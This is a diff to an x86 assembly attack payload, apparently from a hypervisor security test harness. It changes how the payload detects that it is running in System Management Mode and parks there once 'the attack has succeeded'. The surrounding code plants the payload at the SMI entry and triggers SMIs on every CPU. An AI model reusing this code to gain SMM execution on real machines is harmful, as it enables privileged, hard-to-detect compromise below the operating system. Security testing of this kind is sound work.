@@ -6,6 +6,8 @@
  * by a SIPI (CS base = the page, IP 0), and must tell which happened: an SMI
  * entry has just written the save-state map at 0x3FE00-0x3FFFF, and with it
  * the SMM revision id at 0x3FEFC, over the pattern the guest left there.
+ * The SIPI copy is also every real-mode interrupt vector (main.c): an
+ * exception taken in SMM's real-mode environment lands here, in SMM.
  *
  * It announces itself on the serial port and on the debug console with the
  * token main.c patched in: "HPCI-ATTACK <token> smm=<0|1> apic=<id> stage=<s>"
@@ -64,7 +66,7 @@
 	cmpl $SMM_REVID, %es:SMM_REVID_OFF
 	jne 5f
 	movb $'1', OFF(msg_smm)
-	movl $SAVE_PATTERN, %es:SMM_REVID_OFF
+	or $0x10000, %ebp          /* in SMM: bit 16 of %ebp, %bp is the APIC ID */
 5:	PRINT 0x3f8
 	PRINT 0x402
 	movw $0, OFF(print_lock)
@@ -85,11 +87,14 @@ hpci_payload_dseg:
 	mov $1, %eax
 	cpuid
 	shr $24, %ebx
-	mov %bx, %bp
+	movzwl %bx, %ebp
 	movb $1, OFF(hpci_payload_ran)(%bx)
 	movb $'e', %cl
 	ANNOUNCE
 
+	/* In SMM the attack has succeeded: stay there for the register dump. */
+	test $0x10000, %ebp
+	jnz park
 	/* The SIPI variant goes on as the seed's attacker: plant this code
 	 * at the SMI entry, then raise an SMI on every CPU, itself included. */
 	cmpb $0, OFF(hpci_payload_do_smi)
